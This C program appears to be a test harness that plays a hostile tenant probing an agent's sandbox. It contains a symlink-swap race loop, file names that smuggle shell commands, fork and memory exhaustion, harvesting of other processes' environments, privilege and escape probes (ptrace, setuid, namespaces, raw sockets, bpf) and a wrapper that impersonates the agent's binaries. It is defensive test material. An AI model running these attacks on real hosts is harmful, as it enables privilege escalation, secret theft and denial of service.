// A tenant who means harm: what his own programs could do, in one static program that runs anywhere. None of the agent's code.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t over;
static void stop(int signal) { (void)signal, over = 1; }
static void until_told(void) {
    struct sigaction quit = {.sa_handler = stop};
    sigaction(SIGTERM, &quit, NULL);
    sigaction(SIGINT, &quit, NULL);
}
static int fail(const char *what) { return perror(what), 1; }

// swap: exchanges "d" with "d-link" in each directory below the trees named on standard input, as fast as it can, until SIGTERM.
// By descriptors that were opened before: they lead into the tree wherever root has moved it since.
static int swap(void) {
    static int places[262144];
    int count = 0;
    char tree[4096];
    struct rlimit many = {262144, 262144};
    setrlimit(RLIMIT_NOFILE, &many);
    while (fgets(tree, sizeof tree, stdin)) {
        tree[strcspn(tree, "\n")] = 0;
        for (int here = open(tree, O_RDONLY | O_DIRECTORY); here >= 0; here = openat(here, "d", O_RDONLY | O_DIRECTORY | O_NOFOLLOW)) {
            if (count == 262144) return fprintf(stderr, "too many directories\n"), 1;
            places[count++] = here;
        }
    }
    printf("%d\n", count);
    fflush(stdout);
    unsigned long swaps = 0;
    // From the top down and again: a walk that goes down meets a link where it saw a directory.
    while (!over)
        for (int i = 0; i < count && !over; i++)
            if (renameat2(places[i], "d", places[i], "d-link", RENAME_EXCHANGE) == 0 && ++swaps % 256 == 0) {
                printf("%lu\n", swaps);
                fflush(stdout);
            }
    printf("%lu\n", swaps);
    return 0;
}

// hostile DIR COUNT DEPTH: a tree that a careless walk follows, hangs on or is drowned by.
static int hostile(const char *directory, int count, int depth) {
    static const char *const names[] = {"-rf", "$(touch ${HOME}x)", "a\nb", "\xff\xfe", "`id`", "*", " ", "--help"};
    struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "socket"};
    char name[256];
    if (chdir(directory) != 0) return fail(directory);
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) close(open(names[i], O_CREAT | O_WRONLY, 0666));
    memset(name, 'x', 255), name[255] = 0;
    close(open(name, O_CREAT | O_WRONLY, 0666));
    if (mkfifo("pipe", 0666) != 0) return fail("pipe");
    if (bind(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, sizeof address) != 0) return fail("socket");
    if (truncate("-rf", 1L << 42) != 0) return fail("a sparse file");
    mkdir("closed", 0700), mkdir("closed/inner", 0), close(open("closed/file", O_CREAT, 0)), chmod("closed", 0);
    mkdir("many", 0755);
    int many = open("many", O_RDONLY | O_DIRECTORY);
    for (int i = 0; i < count; i++) {
        snprintf(name, sizeof name, "%d", i);
        int made = openat(many, name, O_CREAT | O_WRONLY, 0644);
        if (made < 0) return fail("many");
        close(made);
    }
    int here = open(".", O_RDONLY | O_DIRECTORY);
    for (int i = 0; i < depth; i++) {
        if (mkdirat(here, "deep", 0755) != 0) return fail("deep");
        int next = openat(here, "deep", O_RDONLY | O_DIRECTORY);
        close(here);
        if ((here = next) < 0) return fail("deep");
    }
    return 0;
}

// fill DIR: makes files in a directory that it holds open, until it is ended.
static int fill(const char *directory) {
    int here = open(directory, O_RDONLY | O_DIRECTORY);
    char name[32];
    if (here < 0) return fail(directory);
    printf("%d\n", getpid());
    fflush(stdout);
    for (int i = 0; !over; i = (i + 1) % 10000) {
        snprintf(name, sizeof name, "fill%d", i);
        close(openat(here, name, O_CREAT | O_WRONLY, 0644));
        unlinkat(here, name, 0);
    }
    return 0;
}

// Of every process that can be seen: how it was called and what it was given, each once, until SIGTERM.
static void keep(FILE *out, const char *process, const char *what) {
    static char seen[1 << 20];
    static char text[1 << 18];
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/%s", process, what);
    int file = open(path, O_RDONLY);
    if (file < 0) return;
    ssize_t size = read(file, text, sizeof text - 1);
    close(file);
    if (size <= 0) return;
    unsigned hash = 2166136261u;
    for (ssize_t i = 0; i < size; i++) hash = (hash ^ (unsigned char)text[i]) * 16777619u;
    hash %= sizeof seen;
    if (seen[hash]) return;
    seen[hash] = 1;
    for (ssize_t i = 0; i < size; i++)
        if (!text[i]) text[i] = ' ';
    fprintf(out, "%s %s: %.*s\n", process, what, (int)size, text);
}
static int watch(const char *file) {
    FILE *out = fopen(file, "w");
    if (!out) return fail(file);
    unsigned long rounds = 0;
    struct timespec from, to;
    clock_gettime(CLOCK_MONOTONIC, &from);
    for (; !over; rounds++) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));)
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') keep(out, entry->d_name, "cmdline"), keep(out, entry->d_name, "environ");
        closedir(processes);
    }
    clock_gettime(CLOCK_MONOTONIC, &to);
    fclose(out);
    printf("%lu %.0f\n", rounds, rounds / ((double)(to.tv_sec - from.tv_sec) + (double)(to.tv_nsec - from.tv_nsec) / 1e9));
    return 0;
}

// forks: as many processes as it gets, six hundred at most; they stay for three seconds, and so does the answer.
static int forks(void) {
    pid_t made[600];
    int count = 0;
    while (count < 600 && (made[count] = fork()) >= 0)
        if (made[count++] == 0) pause(), _exit(0);
    sleep(3);
    for (int i = 0; i < count; i++) kill(made[i], SIGKILL);
    printf("%d\n", count);
    return 0;
}

// memory: three gigabytes, every page of them, for three seconds.
static int memory(void) {
    const size_t step = 64 << 20;
    for (int i = 0; i < 48; i++) {
        char *piece = mmap(NULL, step, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (piece == MAP_FAILED) return fail("memory");
        memset(piece, 1, step);
    }
    sleep(3);
    puts("allowed");
    return 0;
}

static int reached(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    if (connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, sizeof address) == 0) return 0;
    // A datagram socket refuses a stream's connect by its kind, after permissions were judged.
    return errno == EPROTOTYPE ? connect(socket(AF_UNIX, SOCK_DGRAM, 0), (struct sockaddr *)&address, sizeof address) : -1;
}

// try WHAT [ARGUMENT]: one forbidden thing; says "allowed", or the kernel's reason.
static int attempt(const char *what, const char *argument) {
    int result = -2;
    char beside[4200];
    snprintf(beside, sizeof beside, "%s-moved", argument);
    errno = 0;
    if (!strcmp(what, "connect")) result = reached(argument);
    if (!strcmp(what, "open")) result = open(argument, O_RDONLY | O_NONBLOCK);
    if (!strcmp(what, "write")) result = open(argument, O_WRONLY | O_NONBLOCK | O_APPEND);
    if (!strcmp(what, "make")) result = open(argument, O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (!strcmp(what, "list")) result = opendir(argument) ? 0 : -1;
    if (!strcmp(what, "hardlink")) result = linkat(AT_FDCWD, argument, AT_FDCWD, "stolen", 0);
    if (!strcmp(what, "rename")) result = rename(argument, beside);
    if (!strcmp(what, "ptrace")) result = (int)ptrace(PTRACE_ATTACH, atoi(argument), 0, 0);
    if (!strcmp(what, "signal")) result = kill(atoi(argument), 0);
    if (!strcmp(what, "userns")) result = unshare(CLONE_NEWUSER);
    if (!strcmp(what, "mountns")) result = unshare(CLONE_NEWNS);
    if (!strcmp(what, "raw")) result = socket(AF_INET, SOCK_RAW, 1);
    if (!strcmp(what, "packet")) result = socket(AF_PACKET, SOCK_RAW, 0);
    if (!strcmp(what, "netlink")) result = socket(AF_NETLINK, SOCK_RAW, 0);
    if (!strcmp(what, "mount")) result = mount("none", "/tmp", "tmpfs", 0, 0);
    if (!strcmp(what, "device")) result = mknod("null", S_IFCHR | 0666, 1 << 8 | 3);
    if (!strcmp(what, "root")) result = setuid(0);
    if (!strcmp(what, "bpf")) {
        union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
        result = (int)syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map);
    }
    if (result == -2) return fprintf(stderr, "cannot try '%s': it is not known\n", what), 2;
    printf("%s\n", result >= 0 ? "allowed" : strerror(errno));
    return 0;
}

// In the place of a program that the agent starts (which is beside it as NAME.real): writes down what it was given, then becomes it.
static int stand_in(char *self, char **arguments) {
    char parent[64] = "", line[4096], path[300];
    snprintf(path, sizeof path, "/proc/%d/comm", getppid());
    int file = open(path, O_RDONLY);
    if (file >= 0 && read(file, parent, sizeof parent - 1) < 0) parent[0] = 0;
    close(file);
    if (!strncmp(parent, "agent", 5) || getenv("ATTACK_RECORD")) {
        int used = snprintf(line, sizeof line, "%s:", self);
        for (int i = 0; i < 1024 && used < 4000; i++)
            if (fcntl(i, F_GETFD) >= 0) used += snprintf(line + used, sizeof line - (size_t)used, " %d", i);
        line[used++] = '\n';
        file = open("/tmp/attack-descriptors", O_WRONLY | O_APPEND);
        if (file < 0 || write(file, line, (size_t)used) != used) return fail("/tmp/attack-descriptors");
        close(file);
    }
    snprintf(path, sizeof path, "%s.real", self);
    execv(path, arguments);
    return fail(path);
}

int main(int count, char **arguments) {
    char self[256] = "", real[300];
    if (readlink("/proc/self/exe", self, sizeof self - 1) > 0 && snprintf(real, sizeof real, "%s.real", self) > 0 && access(real, F_OK) == 0)
        return stand_in(self, arguments);
    const char *verb = count > 1 ? arguments[1] : "", *argument = count > 2 ? arguments[2] : "";
    until_told();
    if (!strcmp(verb, "swap")) return swap();
    if (!strcmp(verb, "forks")) return forks();
    if (!strcmp(verb, "memory")) return memory();
    if (!strcmp(verb, "fill")) return fill(argument);
    if (!strcmp(verb, "watch")) return watch(argument);
    if (!strcmp(verb, "hostile") && count == 5) return hostile(argument, atoi(arguments[3]), atoi(arguments[4]));
    if (!strcmp(verb, "try")) return attempt(argument, count > 3 ? arguments[3] : "");
    fprintf(stderr, "usage: tenant swap | forks | memory | fill DIR | watch FILE | hostile DIR COUNT DEPTH | try WHAT [ARGUMENT]\n");
    return 2;
}
